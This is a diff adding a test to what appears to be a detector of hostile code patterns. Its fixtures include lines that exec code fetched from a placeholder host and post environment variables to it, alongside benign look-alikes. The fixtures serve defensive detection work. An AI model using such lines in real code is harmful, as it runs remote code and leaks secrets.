@@ -47,6 +47,19 @@ test('one variable of the environment is not all of it', () => {
   assert.deepEqual(kinds('rows = load_settings(os.environ)\nrequests.post("https://c.example.net", json=rows)\n'), []);
 });
 
+test('one character, bytes of a number, a header and a setting hide and fetch nothing', () => {
+  const script = (code: string) => kinds(`${code}\nnew Function(code)();\n`, 'javascript', 'a.js');
+  assert.deepEqual(script('const mark = String.fromCharCode(4);\nconst code = `return ${rule}` + mark;'), []);
+  assert.deepEqual(script('const code = String.fromCharCode(255 & n) + String.fromCharCode(n & 0xff);'), []);
+  assert.deepEqual(script('const code = String.fromCharCode(97) + String.fromCharCode(98);'), ['decoded-execution']);
+  assert.deepEqual(script('const code = list.map((n) => String.fromCharCode(n)).join("");'), ['decoded-execution']);
+  assert.deepEqual(kinds('code = 303 if request.get("SERVER_PROTOCOL") == "HTTP/1.1" else 302\nexec(code)\n'), []);
+  assert.deepEqual(kinds('code = request.get("https://c.example.net")\nexec(code)\n'), ['remote-execution']);
+  const asked = 'url = get_setting("MIRROR", Text(str, str), os.environ)\n';
+  assert.deepEqual(kinds(`${asked}urlopen(url)\n`), []);
+  assert.deepEqual(kinds('requests.post("https://c.example.net", json=pack("a", os.environ))\n'), ['environment-sent']);
+});
+
 test('a short name that is given again and again stands for what was said near', () => {
   const others = Array.from({ length: 20 }, (_, index) => `function f${index}(e) { var e = ${index}; }`).join('\n');
   const text = `var e = process.env;\n${others}\n${' '.repeat(2_000)}\nfetch("https://c.example.net", { body: JSON.stringify(e) });\n`;
